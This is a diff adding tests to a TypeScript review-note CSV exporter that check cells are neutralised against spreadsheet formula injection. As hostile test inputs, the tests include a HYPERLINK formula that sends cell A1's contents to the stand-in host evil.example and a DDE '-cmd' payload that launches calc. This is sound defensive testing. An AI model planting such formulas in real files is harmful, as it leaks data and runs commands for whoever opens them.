@@ -2,7 +2,7 @@ import { strict as assert } from 'node:assert';
 import * as fs from 'node:fs';
 import AjvDraft04 from 'ajv-draft-04';
 import addFormats from 'ajv-formats';
-import { CSV_COLUMNS, csvField, exportCsv, parseCsv } from '../../../src/core/review/exportCsv';
+import { CSV_COLUMNS, csvField, exportCsv, neutraliseFormula, parseCsv } from '../../../src/core/review/exportCsv';
 import { exportJson } from '../../../src/core/review/exportJson';
 import { exportMarkdown } from '../../../src/core/review/exportMarkdown';
 import type { ExportContext } from '../../../src/core/review/exportOptions';
@@ -56,6 +56,53 @@ describe('review note export', () => {
       assert.equal(col(rows[2], 'lines'), '1');
       assert.equal(col(rows[3], 'placement'), 'orphaned');
       assert.equal(col(rows[3], 'placementNote'), 'the function was deleted');
+    });
+
+    describe('opened in a spreadsheet', () => {
+      it('puts a single quote before a cell that starts with any formula character', () => {
+        for (const start of ['=', '+', '-', '@', '\t', '\r', '\0']) {
+          const value = `${start}SUM(A1:A9)`;
+          assert.equal(neutraliseFormula(value), `'${value}`, JSON.stringify(start));
+        }
+        assert.equal(csvField('=1+1'), "'=1+1");
+        assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
+        assert.equal(csvField('+cmd|x'), "'+cmd|x");
+        assert.equal(csvField('\tlead'), "'\tlead");
+      });
+
+      it('puts the quote inside the CSV quotes when the cell also needs quoting', () => {
+        const attack = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+        assert.equal(csvField(attack), `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+        assert.equal(csvField('\r\n=1+1'), `"'\r\n=1+1"`);
+        assert.equal(csvField('-1, I disagree'), `"'-1, I disagree"`);
+        // A cell that already starts with a double quote is text to a spreadsheet: only RFC 4180 quoting.
+        assert.equal(csvField('"=1+1"'), '"""=1+1"""');
+        assert.equal(csvField("'=1+1"), "'=1+1");
+      });
+
+      it('prefixes lone numbers with a sign too, and leaves formula characters later in a cell alone', () => {
+        assert.equal(csvField('-1'), "'-1");
+        assert.equal(csvField('+1'), "'+1");
+        assert.equal(csvField('12-18'), '12-18');
+        assert.equal(csvField('a = b + c - d @ e'), 'a = b + c - d @ e');
+        assert.equal(csvField('x\t=1'), 'x\t=1');
+        assert.equal(csvField('12'), '12');
+        assert.equal(csvField(''), '');
+      });
+
+      it('neutralises every column of an exported note, so a teammate\'s comment or name cannot run', () => {
+        const hostile = makeThread({ id: 'd'.repeat(32), author: '@evil', bodies: ['=HYPERLINK("http://evil.example","click")', '+1', '-cmd|\' /C calc\'!A0'], anchorNote: '=1+1' });
+        const rows = parseCsv(exportCsv([hostile]));
+        const col = (name: (typeof CSV_COLUMNS)[number]) => rows[1][CSV_COLUMNS.indexOf(name)];
+        assert.equal(rows.length, 2);
+        assert.equal(rows[1].length, CSV_COLUMNS.length);
+        assert.equal(col('firstComment'), '\'=HYPERLINK("http://evil.example","click")');
+        assert.equal(col('author'), "'@evil");
+        assert.equal(col('placementNote'), "'=1+1");
+        assert.equal(col('replies'), "Bob (2026-01-02T09:30:00.000Z): +1\n\nAda (2026-01-03T09:30:00.000Z): -cmd|' /C calc'!A0");
+        assert.equal(col('lines'), '12-18');
+        for (const cell of rows[1]) assert.doesNotMatch(cell, /^[=+\-@\t\r\0]/, cell);
+      });
     });
   });
 
